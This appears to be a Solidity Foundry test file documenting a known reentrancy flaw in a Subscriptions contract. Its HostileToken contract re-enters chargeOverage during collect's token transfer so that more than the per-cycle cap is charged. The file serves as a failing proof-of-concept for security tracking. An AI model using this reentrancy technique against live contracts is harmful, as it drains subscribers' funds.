// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Base} from "./Base.sol";
import {Subscriptions} from "src/Subscriptions.sol";

/// @dev A plan token under the provider's control: its transferFrom moves balances like an ERC-20,
///      but when armed it first re-enters Subscriptions.chargeOverage (it is the plan's operator)
///      and then answers `false` to the renewal's transferFrom.
contract HostileToken {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    Subscriptions internal immutable subs;
    bytes32 internal id;
    uint32 internal cycle;
    uint256 internal overage;
    bool internal armed;

    constructor(Subscriptions subs_) {
        subs = subs_;
    }

    function mint(address to, uint256 v) external {
        balanceOf[to] += v;
    }

    function approve(address s, uint256 v) external returns (bool) {
        allowance[msg.sender][s] = v;
        return true;
    }

    function arm(bytes32 id_, uint32 cycle_, uint256 overage_) external {
        (id, cycle, overage, armed) = (id_, cycle_, overage_, true);
    }

    function transferFrom(address from, address to, uint256 v) external returns (bool) {
        if (armed) {
            armed = false;
            // Inside collect: the cycle is already advanced and overageUsed reset.
            subs.chargeOverage(id, cycle, overage, bytes32("reentered"));
            return false; // the renewal "fails": collect restores cycle and overageUsed
        }
        allowance[from][msg.sender] -= v;
        balanceOf[from] -= v;
        balanceOf[to] += v;
        return true;
    }
}

/// @dev Known issues, reported to the lead; failing on purpose, so scripts/contracts-fuzz does not
///      run this contract (run: forge test --match-contract KnownIssues).
contract KnownIssues is Base {
    /// @dev SECURITY.md (static analysis of the contracts, issue 35) describes it: with a hostile
    ///      plan token, an overage charge made from inside collect's failed token call is erased
    ///      by collect's restore, so the cycle's overage can be charged again: more than
    ///      amount + maxOverage is pulled (as Subscriptions accounts it) in one cycle.
    function test_hostileTokenReentrancyExceedsPerCycleCap() public {
        vm.warp(1_750_000_000);
        Subscriptions subs = new Subscriptions();
        HostileToken token = new HostileToken(subs);
        address subscriber = address(0xA11CE);
        address payTo = address(0xFA70);
        token.mint(subscriber, 1_000e6);
        vm.prank(subscriber);
        token.approve(address(subs), type(uint256).max);
        bytes32 planId = subs.createPlan(address(token), payTo, 10e6, 30 days, address(token), bytes32(0));
        vm.prank(subscriber);
        bytes32 id = subs.subscribe(planId, 5e6); // cycle 1: 10e6, cap 10e6 + 5e6
        subs.chargeOverage(id, 1, 5e6, bytes32("a")); // cycle 1: the whole overage cap
        uint256 before = token.balanceOf(subscriber);
        vm.warp(block.timestamp + 30 days);
        token.arm(id, 2, 5e6);
        _assertTrue(!subs.collect(id, 2), "collect reported failure (subscription paused)");
        // Back in cycle 1 with its overage spent... but overageUsed was restored to 5e6, and the
        // re-entered charge for "cycle 2" (5e6) was pulled anyway.
        uint256 pulledInCycle1 = 10e6 + 5e6 + (before - token.balanceOf(subscriber));
        _assertTrue(pulledInCycle1 <= 10e6 + 5e6, string.concat("pulled in cycle 1: ", vm.toString(pulledInCycle1)));
    }
}
